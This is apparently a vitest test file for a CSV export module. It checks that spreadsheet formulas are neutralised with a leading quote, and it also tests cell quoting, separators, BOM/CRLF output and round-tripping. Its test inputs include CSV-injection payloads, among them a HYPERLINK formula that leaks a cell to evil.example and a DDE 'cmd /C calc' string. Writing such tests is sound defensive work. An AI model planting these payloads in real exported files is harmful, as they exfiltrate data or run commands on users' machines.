import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

/** An RFC 4180 reader, written apart from the writer, to check what a spreadsheet would get. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

describe('the CSV writer', () => {
  it('neutralises every text a spreadsheet would run as a formula, with a leading quote', () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?leak="&B2,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ]) {
      const [[cell]] = readCsv(toCsv([[formula]])) as [[string]];
      expect(cell, JSON.stringify(formula)).toBe(`'${formula}`);
    }
  });

  it('quotes a cell with the separator, a quote, a line feed or a bare carriage return, and nothing else', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('a;b');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('bare\rreturn')).toBe('"bare\rreturn"');
    expect(csvCell('Gemeente Utrecht')).toBe('Gemeente Utrecht');
    expect(csvCell('')).toBe('');
  });

  it('writes numbers as numbers, a negative one too, and texts that only contain = + - @ as they are', () => {
    expect(toCsv([[-3, 0, 12.5, 'a-b', 'x=y', 'mail@example.nl']])).toBe('-3,0,12.5,a-b,x=y,mail@example.nl\n');
  });

  it('ends every row, with the BOM and CRLF the Dutch spreadsheets want when asked', () => {
    expect(
      toCsv([
        ['a', 1],
        ['b', 2],
      ]),
    ).toBe('a,1\nb,2\n');
    expect(toCsv([['é', 'x;y']], { separator: ';', lineEnd: '\r\n', bom: true })).toBe('\uFEFFé;"x;y"\r\n');
    expect(toCsv([])).toBe('');
  });

  it('reads back as the cells it was given (after the neutralising quote)', () => {
    const rows = [
      ['naam', 'opmerking'],
      ['Gemeente "Zuid", afdeling\r\nnoord', '=1+1'],
    ];
    expect(readCsv(toCsv(rows))).toEqual([rows[0], ['Gemeente "Zuid", afdeling\r\nnoord', "'=1+1"]]);
  });
});
